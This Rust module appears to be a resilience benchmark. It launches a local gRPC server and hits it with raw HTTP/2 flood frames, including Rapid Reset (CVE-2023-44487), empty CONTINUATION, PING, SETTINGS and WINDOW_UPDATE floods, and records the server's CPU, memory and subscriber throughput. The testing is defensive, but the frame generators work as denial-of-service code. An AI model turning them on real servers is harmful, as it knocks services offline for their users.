//! Section 6: the gRPC listener under attack. For each attack class and each gRPC server in
//! the same run, a real `transit-broadcaster serve` process (1 update/s), one subscriber that
//! should keep receiving, and one raw attacker that sends the class's frames as fast as the
//! server reads them for a few seconds (reading and dropping whatever comes back, and
//! reconnecting when the server closes): frames sent, connections the server closed, the
//! server's CPU and its RSS, the subscriber's updates.

use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use transit_broadcaster::generated::transit_v1::SubscribeRequest;
use transit_broadcaster::generated::transit_v1::transit_broadcaster_client::TransitBroadcasterClient;

use super::{GrpcServer, free_port, grpc_servers, rss_kib, scale, system_name};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const SUBSCRIBE: &str = "/stallwatch.transit.v1.TransitBroadcaster/Subscribe";
/// Frames per write.
const BATCH: u32 = 1000;

#[derive(Clone, Copy)]
enum Attack {
    /// 1,000 Subscribe streams without their request, then SETTINGS raising
    /// INITIAL_WINDOW_SIZE by one each.
    InitialWindowStorm,
    /// WINDOW_UPDATE +1 on an open stream.
    WindowUpdateFlood,
    /// HEADERS then RST_STREAM (CVE-2023-44487).
    RapidReset,
    /// A header block that never ends: empty CONTINUATIONs (CVE-2024-27316 class).
    EmptyContinuation,
    /// Empty DATA frames on an open request.
    EmptyData,
    PingFlood,
    SettingsFlood,
}

const ATTACKS: [Attack; 7] = [
    Attack::InitialWindowStorm,
    Attack::WindowUpdateFlood,
    Attack::RapidReset,
    Attack::EmptyContinuation,
    Attack::EmptyData,
    Attack::PingFlood,
    Attack::SettingsFlood,
];

impl Attack {
    fn name(self) -> &'static str {
        match self {
            Attack::InitialWindowStorm => "SETTINGS INITIAL_WINDOW_SIZE +1 over 1,000 streams",
            Attack::WindowUpdateFlood => "WINDOW_UPDATE +1 flood",
            Attack::RapidReset => "rapid reset (HEADERS + RST_STREAM)",
            Attack::EmptyContinuation => "empty CONTINUATION",
            Attack::EmptyData => "empty DATA",
            Attack::PingFlood => "PING flood",
            Attack::SettingsFlood => "SETTINGS flood",
        }
    }

    /// What a fresh connection sends before the attack proper.
    fn setup(self) -> Vec<u8> {
        let mut out = PREFACE.to_vec();
        out.extend(frame(0x4, 0, 0, &[]));
        match self {
            Attack::InitialWindowStorm => {
                for i in 0..1000 {
                    out.extend(frame(0x1, 0x4, 2 * i + 1, &request_block()));
                }
            }
            Attack::WindowUpdateFlood | Attack::EmptyData => {
                out.extend(frame(0x1, 0x4, 1, &request_block()));
            }
            Attack::EmptyContinuation => out.extend(frame(0x1, 0, 1, &request_block())),
            _ => {}
        }
        out
    }

    /// The `k`th batch of attack frames.
    fn batch(self, k: u32) -> Vec<u8> {
        let mut out = Vec::new();
        for i in 0..BATCH {
            let n = k * BATCH + i;
            match self {
                Attack::InitialWindowStorm => {
                    let setting = [&4u16.to_be_bytes()[..], &(65_535 + n + 1).to_be_bytes()];
                    out.extend(frame(0x4, 0, 0, &setting.concat()));
                }
                Attack::WindowUpdateFlood => out.extend(frame(0x8, 0, 1, &1u32.to_be_bytes())),
                Attack::RapidReset => {
                    let id = 2 * (n % (1 << 29)) + 1;
                    out.extend(frame(0x1, 0x4, id, &request_block()));
                    out.extend(frame(0x3, 0, id, &8u32.to_be_bytes()));
                }
                Attack::EmptyContinuation => out.extend(frame(0x9, 0, 1, &[])),
                Attack::EmptyData => out.extend(frame(0x0, 0, 1, &[])),
                Attack::PingFlood => out.extend(frame(0x6, 0, 0, &n.to_be_bytes().repeat(2))),
                Attack::SettingsFlood => out.extend(frame(0x4, 0, 0, &[])),
            }
        }
        out
    }
}

fn frame(kind: u8, flags: u8, id: u32, payload: &[u8]) -> Vec<u8> {
    let mut out = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&id.to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// A Subscribe request's header block, literals without indexing.
fn request_block() -> Vec<u8> {
    let mut out = Vec::new();
    for (name, value) in [
        (":method", "POST"),
        (":scheme", "http"),
        (":authority", "localhost"),
        (":path", SUBSCRIBE),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ] {
        out.push(0);
        out.push(name.len() as u8);
        out.extend_from_slice(name.as_bytes());
        out.push(value.len() as u8);
        out.extend_from_slice(value.as_bytes());
    }
    out
}

struct Row {
    attack: Attack,
    server: GrpcServer,
    frames: u64,
    closed: u64,
    cpu_share: f64,
    rss_before_kib: u64,
    rss_peak_kib: u64,
    rss_after_kib: u64,
    witness_updates: u64,
    seconds: f64,
}

pub fn run(client_rt: &tokio::runtime::Runtime) {
    let seconds = (3.0 * scale()).max(1.0);
    let mut rows = Vec::new();
    for attack in ATTACKS {
        for server in grpc_servers() {
            rows.push(client_rt.block_on(measure(attack, server, seconds)));
        }
    }
    println!(
        "## 6. Under attack (one attacking connection for {seconds:.0} s, a `transit-broadcaster serve` process at 1 update/s)"
    );
    println!();
    println!(
        "| attack | server | frames sent | connections closed by the server | server CPU | RSS before → peak → after | subscriber's updates |"
    );
    println!("|---|---|---:|---:|---:|---:|---:|");
    for r in &rows {
        println!(
            "| {} | {} | {} | {} | {:.0}% of a core | {:.1} → {:.1} → {:.1} MiB | {} in {:.0} s |",
            r.attack.name(),
            system_name(r.server),
            r.frames,
            r.closed,
            r.cpu_share * 100.0,
            r.rss_before_kib as f64 / 1024.0,
            r.rss_peak_kib as f64 / 1024.0,
            r.rss_after_kib as f64 / 1024.0,
            r.witness_updates,
            r.seconds
        );
    }
    println!();
}

async fn measure(attack: Attack, server: GrpcServer, seconds: f64) -> Row {
    let (grpc_port, http_port) = (free_port(), free_port());
    let mut child = super::scale::spawn_server(server, grpc_port, http_port, 1.0);
    let pid = child.id();
    let addr: std::net::SocketAddr = ([127, 0, 0, 1], grpc_port).into();
    let witness = Arc::new(AtomicU64::new(0));
    let witness_task = {
        let witness = witness.clone();
        let channel = super::scale::connect_many(addr, 1).await.remove(0);
        let mut updates = TransitBroadcasterClient::new(channel)
            .subscribe(SubscribeRequest {
                stream: "all".into(),
                ..Default::default()
            })
            .await
            .expect("subscribe")
            .into_inner();
        tokio::spawn(async move {
            while let Ok(Some(_)) = updates.message().await {
                witness.fetch_add(1, Ordering::Relaxed);
            }
        })
    };
    tokio::time::sleep(Duration::from_millis(500)).await;
    let rss_before_kib = rss_kib(pid);
    let cpu_before = super::scale::cpu_ticks(pid);
    let witness_before = witness.load(Ordering::Relaxed);
    let frames = Arc::new(AtomicU64::new(0));
    let done = Arc::new(AtomicBool::new(false));
    let attacker = tokio::spawn(attack_loop(attack, addr, frames.clone(), done.clone()));
    let start = Instant::now();
    let mut rss_peak_kib = rss_before_kib;
    while start.elapsed().as_secs_f64() < seconds {
        tokio::time::sleep(Duration::from_millis(100)).await;
        rss_peak_kib = rss_peak_kib.max(rss_kib(pid));
    }
    done.store(true, Ordering::Relaxed);
    let closed = attacker.await.unwrap_or(0);
    let elapsed = start.elapsed().as_secs_f64();
    let cpu = super::scale::cpu_ticks(pid) - cpu_before;
    let rss_after_kib = rss_kib(pid);
    let witness_updates = witness.load(Ordering::Relaxed) - witness_before;
    witness_task.abort();
    let _ = child.kill();
    let _ = child.wait();
    Row {
        attack,
        server,
        frames: frames.load(Ordering::Relaxed),
        closed,
        cpu_share: cpu as f64 / super::CLOCK_TICKS / elapsed,
        rss_before_kib,
        rss_peak_kib,
        rss_after_kib,
        witness_updates,
        seconds: elapsed,
    }
}

/// Attacks until `done`; returns how many connections the server closed.
async fn attack_loop(
    attack: Attack,
    addr: std::net::SocketAddr,
    frames: Arc<AtomicU64>,
    done: Arc<AtomicBool>,
) -> u64 {
    let mut closed = 0;
    while !done.load(Ordering::Relaxed) {
        let Ok(socket) = tokio::net::TcpStream::connect(addr).await else {
            tokio::time::sleep(Duration::from_millis(10)).await;
            continue;
        };
        let _ = socket.set_nodelay(true);
        let (mut read, mut write) = socket.into_split();
        let reader = tokio::spawn(async move {
            let mut buf = vec![0u8; 64 * 1024];
            while let Ok(n) = read.read(&mut buf).await {
                if n == 0 {
                    break;
                }
            }
        });
        let mut ok = write.write_all(&attack.setup()).await.is_ok();
        let mut k = 0;
        while ok && !done.load(Ordering::Relaxed) && !reader.is_finished() {
            let batch = attack.batch(k);
            ok = write.write_all(&batch).await.is_ok();
            if ok {
                let per = if matches!(attack, Attack::RapidReset) {
                    2
                } else {
                    1
                };
                frames.fetch_add(u64::from(BATCH) * per, Ordering::Relaxed);
            }
            k += 1;
        }
        if !ok || reader.is_finished() {
            closed += 1;
        }
        reader.abort();
    }
    closed
}
